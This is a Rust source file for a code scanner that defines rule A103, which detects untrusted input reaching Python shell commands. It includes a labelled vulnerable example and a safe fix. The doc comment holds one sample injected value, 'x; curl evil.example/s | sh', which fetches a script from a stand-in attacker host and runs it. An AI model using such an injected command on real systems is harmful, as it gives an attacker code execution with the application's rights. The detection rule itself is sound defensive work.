use rampart_code::models::Class;
use rampart_core::{Concern, Layer, Severity, refs};

use super::report_flows;
use crate::rule::{Check, declare_rule};
use crate::{Code, CodeTarget, Hit};

declare_rule! {
    /// ## What it checks
    /// Request data, process input or socket data that reaches a command run by a shell:
    /// `os.system`, `os.popen`, `subprocess.*` with `shell=True`, `subprocess.getoutput`,
    /// `asyncio.create_subprocess_shell`. `shlex.quote` makes a value safe here; HTML escaping
    /// does not. A list of arguments without `shell=True` is not run by a shell and is not
    /// reported.
    ///
    /// ## Why it matters
    /// The shell reads `;`, `|`, `$(...)` and backticks in the value as more commands: `x; curl
    /// evil.example/s | sh` runs the attacker's program with the application's rights, and
    /// from there its secrets, its network and its host are theirs.
    ///
    /// ## Example
    /// ```python
    /// host = request.args["host"]
    /// os.system("ping -c 1 " + host)
    /// ```
    /// Use instead: a list of arguments, no shell.
    /// ```python
    /// subprocess.run(["ping", "-c", "1", host], check=True)
    /// ```
    pub struct CommandInjection {
        code: "A103",
        name: "command-injection",
        title: "Untrusted data runs in a shell",
        severity: Severity::Critical,
        layer: Layer::Code,
        concern: Concern::Injection,
        references: refs![
            Cwe: ["CWE-78"],
            Owasp: ["A03:2021"],
        ],
        equivalents: &["codeql:py/command-line-injection"],
    }
}

impl Check<Code> for CommandInjection {
    fn check(&self, target: &CodeTarget<'_>, hits: &mut Vec<Hit>) {
        report_flows(
            target,
            Class::Command,
            "pass the arguments as a list without a shell, or quote them with shlex.quote",
            hits,
        );
    }
}
